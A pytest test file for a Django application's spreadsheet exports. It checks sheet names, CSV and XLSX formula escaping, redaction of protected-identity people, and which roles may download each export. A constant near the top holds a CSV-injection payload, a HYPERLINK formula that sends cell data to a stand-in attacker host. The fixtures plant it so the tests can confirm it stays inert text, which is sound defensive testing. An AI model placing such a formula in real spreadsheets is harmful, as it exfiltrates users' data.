"""Every export Mandat offers, as the file arrives: listed from the exporter
registry (not by hand), fetched through the client as every role, and opened
with openpyxl and the csv module. A new exporter is fetched by this test as
soon as it exists, so no 500 can hide in an export again."""

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone
from django.utils.translation import pgettext
from openpyxl import load_workbook

from mandat.core import exports
from mandat.core.access import Role
from mandat.core.demo import DEMO_SLUG
from mandat.core.exports import Column, csv_write, sheet_name, xlsx_write
from mandat.core.models import Organisation
from mandat.directory.models import AssignmentRole, Person
from mandat.directory.tests.factories import (
    AssignmentFactory,
    BodyFactory,
    PersonFactory,
)
from mandat.evaluations import services as evaluation_services
from mandat.portal.demo import demo_seed
from mandat.reports.models import CostLine
from mandat.trainings.models import (
    Contributor,
    PlanItem,
    Session,
    SessionAttendance,
    TrainingPlan,
)
from mandat.trainings.tests.factories import (
    OccasionFactory,
    RegistrationFactory,
    TrainingFactory,
)

# The OWASP example of CSV injection: a click sends the sheet elsewhere.
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
HIDDEN_EMAIL = "hemlig@skyddad.example"

MANAGERS = {Role.ADMINISTRATOR, Role.COORDINATOR}
SECRETARY = {Role.COMMITTEE_SECRETARY}
# Who may use each export. An exporter missing here fails the test: say who
# may use it.
MAY = {
    "directory.people": MANAGERS | SECRETARY,
    "directory.assignments": MANAGERS | SECRETARY,
    "directory.bodies": MANAGERS | SECRETARY,
    "directory.body-members": MANAGERS | SECRETARY,
    "directory.register-template": MANAGERS,
    "reports.history-template": MANAGERS,
    "trainings.trainings": MANAGERS | SECRETARY,
    "trainings.plan": MANAGERS | SECRETARY,
    "trainings.participants": MANAGERS | SECRETARY | {Role.COURSE_LEADER},
    "reports.costs": MANAGERS,
    "reports.fee-basis": MANAGERS | SECRETARY,
    "reports.follow-up": MANAGERS,
    "evaluations.results": MANAGERS | SECRETARY,
}
# Exports whose rows cannot hold the planted formula-looking text.
NOTHING_PLANTED = {"directory.register-template", "reports.history-template"}

ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}( \d{2}:\d{2}(:\d{2})?)?$")
DOT_DECIMAL = re.compile(r"^-?\d+\.\d+$")


# The writer ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Arvodesunderlag: Socialnämnden", "Arvodesunderlag Socialnämnden"),
        ("Utvärdering: Grundutbildning", "Utvärdering Grundutbildning"),
        ("a\\b/c?d*e[f]g:h", "a b c d e f g h"),
        # Cut between words, never in the middle of one.
        (
            "Utbildningsplan för förtroendevalda 2026–2030",
            "Utbildningsplan för",
        ),
        (
            "Kommunstyrelsens arbetsutskott – presidiet",
            "Kommunstyrelsens arbetsutskott",
        ),
        (
            "Överförmyndarnämndensarbetsutskottsledamöter",
            "Överförmyndarnämndensarbetsutsk",
        ),
        ("'citat'", "citat"),
        (": / ?", None),
        ("", None),
        ("History", "History 1"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(title, expected):
    name = sheet_name(title)

    assert name == (expected or pgettext("spreadsheet", "Sheet"))
    assert 0 < len(name) <= 31


def test_text_that_looks_like_a_formula_stays_text_and_numbers_stay_numbers():
    columns = [Column("Värde", lambda row: row)]
    values = [EVIL, "+46 8 123 45 67", "-1", "@SUM(A1)", "\tx", -5, 3.5, "a\x0bb"]

    workbook = load_workbook(
        io.BytesIO(xlsx_write(title="T", columns=columns, rows=[[v] for v in values]))
    )
    text = csv_write(columns=columns, rows=[[v] for v in values]).decode("utf-8-sig")

    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [*values[:5], -5, 3.5, "ab"]
    assert [cell.data_type for cell in cells] == ["s"] * 5 + ["n", "n", "s"]
    assert all(cell.quotePrefix for cell in cells[:5])
    assert text.split("\r\n")[1:-1] == [
        "\"'" + EVIL.replace('"', '""') + '"',  # quoted, as it holds quotes
        "'+46 8 123 45 67",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "-5",
        "3,5",
        "ab",
    ]


def test_dates_and_times_are_real_values_in_swedish_time():
    summer = timezone.make_aware(datetime.datetime(2027, 5, 14, 8, 30))
    winter = datetime.datetime(2027, 1, 14, 7, 30, tzinfo=datetime.UTC)
    columns = [Column("När", lambda row: row)]
    rows = [[summer], [winter], [datetime.date(2027, 5, 14)], [datetime.time(8, 30)]]

    sheet = load_workbook(
        io.BytesIO(xlsx_write(title="T", columns=columns, rows=rows))
    ).active
    text = csv_write(columns=columns, rows=rows).decode("utf-8-sig")

    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [
        datetime.datetime(2027, 5, 14, 8, 30),
        datetime.datetime(2027, 1, 14, 8, 30),
        datetime.datetime(2027, 5, 14),
        datetime.time(8, 30),
    ]
    assert [cell.number_format for cell in cells] == [
        "yyyy-mm-dd hh:mm",
        "yyyy-mm-dd hh:mm",
        "yyyy-mm-dd",
        "hh:mm",
    ]
    assert text.split("\r\n")[1:-1] == [
        "2027-05-14 08:30",
        "2027-01-14 08:30",
        "2027-05-14",
        "08:30",
    ]


def test_no_module_builds_a_spreadsheet_itself():
    """Views never build files inline: only the core writer makes XLSX and
    CSV (the register import only reads them)."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path != Path(exports.__file__).resolve()
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# Every export, as every role ----------------------------------------------------


@pytest.fixture
def world(db, make_user):
    """The demo city, plus what breaks files: names with characters Excel
    forbids in sheet names, text that looks like a formula in every export,
    and a person with protected personal data in every list of people."""
    demo_seed()
    organisation = Organisation.objects.get(slug=DEMO_SLUG)
    today = timezone.localdate()
    body = BodyFactory(
        organisation=organisation,
        name="Kultur: och fritidsnämnden / KFN [test]*?",
        short_name="",
    )
    AssignmentFactory(
        person__organisation=organisation,
        body=BodyFactory(organisation=organisation, name=EVIL),
        starts_on=datetime.date(2026, 1, 1),
    )
    hidden = AssignmentFactory(
        person__organisation=organisation,
        person__first_name="Hemlig",
        person__last_name="Hemligsson",
        person__email=HIDDEN_EMAIL,
        person__title="Hemlighetsfull titel",
        person__register_id="H-17",
        person__protected_identity=True,
        body=body,
        role=AssignmentRole.CHAIR,
        starts_on=datetime.date(2026, 1, 1),
    ).person
    people = [hidden] + [
        AssignmentFactory(
            person__organisation=organisation,
            person__first_name=EVIL if number == 0 else f"Ledamot{number}",
            person__title=EVIL if number == 1 else "",
            body=body,
            starts_on=datetime.date(2026, 1, 1),
        ).person
        for number in range(6)
    ]
    plan = TrainingPlan.objects.filter(organisation=organisation).first()
    plan.title = "Utbildningsplan för förtroendevalda: mandatperioden [antagen av KF]"
    plan.save()
    item = plan.items.filter(is_basic=True).first()
    # The item's title also heads a column of the follow-up.
    PlanItem.objects.filter(pk=item.pk).update(target_group=EVIL, title=EVIL)
    training = TrainingFactory(
        organisation=organisation,
        title="Grundutbildning: KF/KS – dag 1 [för nya]*?",
        responsible_body=body,
        plan_item=item,
    )
    TrainingFactory(organisation=organisation, title=EVIL, plan_item=item)
    starts = timezone.make_aware(
        datetime.datetime.combine(today - datetime.timedelta(days=3), datetime.time(9))
    )
    occasion = OccasionFactory(
        training=training,
        starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=7),
    )
    session = occasion.sessions.get()
    session.ends_at = starts + datetime.timedelta(hours=3)
    session.save()
    afternoon = Session.objects.create(
        occasion=occasion,
        starts_at=starts + datetime.timedelta(hours=4),
        ends_at=starts + datetime.timedelta(hours=7),
    )
    for number, person in enumerate(people):
        registration = RegistrationFactory(
            occasion=occasion,
            person=person,
            dietary_needs=EVIL if number == 2 else "",
        )
        for each in (session, afternoon):
            SessionAttendance.objects.create(
                registration=registration, session=each, status="attended"
            )
    CostLine.objects.create(
        organisation=organisation,
        training=training,
        category="speaker",
        amount=12500,
        incurred_on=today,
        supplier="+46 8 123 45 67",
        description=EVIL,
    )
    users = {
        role: make_user(
            role,
            organisation,
            body=body if role == Role.COMMITTEE_SECRETARY else None,
            email=f"{role}@export.example",
        )
        for role in Role.values
    }
    Contributor.objects.create(
        occasion=occasion,
        person=PersonFactory(
            organisation=organisation, account=users[Role.COURSE_LEADER]
        ),
        role=Contributor.Role.COURSE_LEADER,
    )
    coordinator = users[Role.COORDINATOR]
    questionnaire = evaluation_services.questionnaire_create(
        actor=coordinator,
        organisation=organisation,
        title=f"Utvärdering: {training.title}",
        training=training,
    )
    evaluation_services.questionnaire_set_status(
        actor=coordinator, questionnaire=questionnaire, status="open"
    )
    evaluation_services.questionnaire_send(
        actor=coordinator, questionnaire=questionnaire, people=people, occasion=occasion
    )
    questions = {q.position: q for q in questionnaire.questions.all()}
    for number, token in enumerate(
        questionnaire.recipients.values_list("token", flat=True)
    ):
        evaluation_services.response_submit(
            token=token,
            answers={
                questions[10].pk: str(number % 4),
                questions[30].pk: EVIL if number == 0 else "Bra",
            },
        )
    evaluation_services.questionnaire_set_status(
        actor=coordinator, questionnaire=questionnaire, status="closed"
    )
    return {
        "organisation": organisation,
        "users": users,
        "ids": {
            "body_id": body.pk,
            "plan_id": plan.pk,
            "occasion_id": occasion.pk,
            "questionnaire_id": questionnaire.pk,
        },
        "query": {
            "reports.costs": {"year": today.year},
            "reports.fee-basis": {
                "body": body.pk,
                "starts_on": (today - datetime.timedelta(days=30)).isoformat(),
                "ends_on": today.isoformat(),
            },
            "reports.follow-up": {"plan": plan.pk},
        },
    }


def _url_parameters(url_name: str) -> set[str]:
    namespace, name = url_name.split(":")
    _prefix, resolver = get_resolver().namespace_dict[namespace]
    return {
        parameter
        for possibilities, *_rest in resolver.reverse_dict.getlist(name)
        for _format, parameters in possibilities
        for parameter in parameters
    }


def _address(exporter, world) -> tuple[str, dict]:
    parameters = _url_parameters(exporter.url_name) - {"org_slug"}
    missing = parameters - set(world["ids"])
    assert not missing, f"{exporter.identifier}: give the test an object for {missing}"
    kwargs = {name: world["ids"][name] for name in parameters}
    kwargs["org_slug"] = world["organisation"].slug
    query = world["query"].get(exporter.identifier, {})
    return reverse(exporter.url_name, kwargs=kwargs), query


def _filename(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    encoded = re.search(r"filename\*=utf-8''([^;]+)", disposition)
    if encoded:
        return unquote(encoded.group(1))
    return re.search(r'filename="([^"]+)"', disposition).group(1)


def _open_xlsx(content: bytes, protected: list[Person]) -> tuple[list, list]:
    """Open the workbook as Excel would and check what every export must be;
    return the header and the cells of the rows."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in xml and b"<f " not in xml, "a cell holds a formula"
    assert b"Hemligsson" not in xml and HIDDEN_EMAIL.encode() not in xml
    workbook = load_workbook(io.BytesIO(content))
    assert len(workbook.worksheets) == 1
    sheet = workbook.active
    assert 0 < len(sheet.title) <= 31
    assert not set(sheet.title) & set(":\\/?*[]")
    assert sheet.title.lower() != "history"
    assert sheet.freeze_panes == "A2"
    header = [cell for cell in sheet[1]]
    assert all(cell.font.b and cell.value for cell in header)
    assert sheet.auto_filter.ref == f"A1:{header[-1].column_letter}{sheet.max_row}"
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        values = [cell.value for cell in row]
        for person in protected:
            assert person.email not in values
            assert not {person.first_name, person.last_name} <= set(values)
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not ISO_DATE.match(cell.value), "a date written as text"
            if isinstance(cell.value, datetime.datetime):
                assert cell.number_format.startswith("yyyy-mm-dd")
    return [cell.value for cell in header], rows


def _open_csv(content: bytes) -> tuple[list, list]:
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"Hemligsson" not in content and HIDDEN_EMAIL.encode() not in content
    text = content.decode("utf-8-sig")
    assert text.endswith("\r\n")
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    for row in [header, *rows]:
        assert len(row) == len(header)
        for field in row:
            assert not field.startswith(("=", "+", "@", "\t", "\r"))
            assert not DOT_DECIMAL.match(field), "a decimal point, not a comma"
            if field.startswith("-"):
                float(field.replace(",", "."))
    return header, rows


def test_every_export_opens_for_every_role_that_may_use_it(world):
    registry = exports.exporter_registry()
    assert set(registry) == set(MAY), "say in MAY who may use each exporter"
    protected = list(
        Person.objects.filter(
            organisation=world["organisation"], protected_identity=True
        )
    )
    assert len(protected) >= 3
    clients = {None: Client()}
    for role, user in world["users"].items():
        clients[role] = Client()
        clients[role].force_login(user)
    fetched = []
    for identifier, exporter in registry.items():
        url, query = _address(exporter, world)
        headers = {}
        for file_format in exporter.formats:
            address = (
                url
                + "?"
                + "&".join(
                    filter(
                        None,
                        [
                            "&".join(f"{key}={value}" for key, value in query.items()),
                            exports.export_url_query(exporter, file_format),
                        ],
                    )
                )
            )
            for role, client in clients.items():
                response = client.get(address)
                fetched.append((identifier, file_format, role, response.status_code))
                if role is None:
                    assert response.status_code == 302, address
                    continue
                if role not in MAY[identifier]:
                    assert response.status_code in (403, 404), (address, role)
                    continue
                assert response.status_code == 200, (address, role)
                assert response["Content-Type"] == exports.FORMATS[file_format]
                filename = _filename(response)
                assert filename.endswith("." + file_format)
                if exporter.dated:
                    assert timezone.localdate().isoformat() in filename
                if file_format == "xlsx":
                    header, rows = _open_xlsx(response.content, protected)
                    cells = [cell for row in rows for cell in row]
                    if identifier not in NOTHING_PLANTED and role == Role.COORDINATOR:
                        evil = [
                            cell for cell in cells if str(cell.value).startswith(EVIL)
                        ]
                        assert evil, f"{identifier}: the planted text is missing"
                        assert all(cell.quotePrefix for cell in evil)
                else:
                    header, rows = _open_csv(response.content)
                    # The apostrophe that keeps a formula text in CSV.
                    header = [
                        field[1:] if field.startswith("'=") else field
                        for field in header
                    ]
                    if identifier not in NOTHING_PLANTED and role == Role.COORDINATOR:
                        assert any(
                            field.startswith("'" + EVIL)
                            for row in rows
                            for field in row
                        ), identifier
                headers.setdefault(role, {})[file_format] = (header, len(rows))
        # The same columns and rows in every format.
        for by_format in headers.values():
            assert len({str(value) for value in by_format.values()}) == 1, identifier
        # The page offers every format it has.
        if exporter.format_parameter is not None:
            page = clients[Role.COORDINATOR].get(url, query).content.decode()
            for file_format in exporter.formats:
                assert f"export={file_format}" in page, (identifier, file_format)
    allowed = sum(1 for *_rest, status in fetched if status == 200)
    assert allowed >= 50
    print(f"{len(registry)} exporters, {len(fetched)} fetches, {allowed} files opened")
